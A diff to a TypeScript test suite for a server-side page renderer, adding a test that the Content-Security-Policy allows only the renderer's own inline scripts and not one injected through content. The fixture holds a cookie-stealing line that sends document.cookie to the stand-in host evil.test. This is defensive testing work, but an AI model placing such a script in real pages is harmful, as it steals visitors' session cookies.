@@ -18,6 +18,8 @@ import type { ClientAssets, SsrEntry, SsrRenderInput, SsrRenderResult } from './
 
 const ASSETS: ClientAssets = { css: [], scripts: [{ src: '/assets/entry.js' }], preloads: [], chunks: {} };
 const INLINE_SCRIPT = 'self.$_TSR={}';
+/** A script that reached the page through content (an HTML injection), not written by the renderer. */
+const INJECTED_SCRIPT = "fetch('https://evil.test/?c='+document.cookie)";
 
 describe('request helpers', () => {
   it('reads the announcement cookie among others', () => {
@@ -78,7 +80,8 @@ describe('createPageRenderer', () => {
       // Padded to a real page's size: bodies under 1 KB are never compressed.
       html:
         `<!DOCTYPE html><html><body>${bar}<ul>${books.map((book) => `<li>${book.title}</li>`).join('')}</ul>` +
-        `<p>${'Ash. '.repeat(300)}</p><script>${INLINE_SCRIPT}</script></body></html>`,
+        `<p>${'Ash. '.repeat(300)}</p><div class="post"><script>${INJECTED_SCRIPT}</script></div>` +
+        `<script nonce="${input.scriptNonce}">${INLINE_SCRIPT}</script></body></html>`,
     };
   }
 
@@ -193,12 +196,31 @@ describe('createPageRenderer', () => {
     expect(renders).toHaveLength(1);
   });
 
-  it('adds the hashes of the inline scripts to the CSP of that page only', async () => {
+  it("adds the hashes of the renderer's own inline scripts to the CSP of that page only", async () => {
     const response = await get('/books');
     const hash = `'sha256-${createHash('sha256').update(INLINE_SCRIPT).digest('base64')}'`;
     const policy = String(response.headers['content-security-policy']);
-    expect(policy).toMatch(new RegExp(`script-src 'self' ${hash.replace(/[+/]/g, '\\$&')}`));
+    expect(policy).toMatch(new RegExp(`script-src 'self' ${hash.replace(/[+/]/g, '\\$&')}(;|$)`));
     expect(policy).toContain("object-src 'none'");
+  });
+
+  it('never allows an inline script that came with content, on fresh or cached pages, for any reader', async () => {
+    const injected = `'sha256-${createHash('sha256').update(INJECTED_SCRIPT).digest('base64')}'`;
+    const answers = await Promise.all(
+      Array.from({ length: 40 }, (_, n) =>
+        get(n % 2 ? '/books' : '/books?utm=x', n % 3 ? {} : { 'accept-encoding': 'br' }),
+      ),
+    );
+    expect(renders).toHaveLength(1);
+    for (const response of answers) {
+      const policy = String(response.headers['content-security-policy']);
+      expect(policy).toMatch(/script-src 'self' 'sha256-[^' ]+'(;|$)/);
+      expect(policy).not.toContain(injected);
+    }
+    // The render's marker never reaches the page that is kept and served to everyone.
+    const html = (await get('/books')).body;
+    expect(html).not.toMatch(/nonce=/);
+    expect(html).toContain(`<script>${INLINE_SCRIPT}</script>`);
   });
 
   it('sends brotli or gzip bodies, made once per page', async () => {
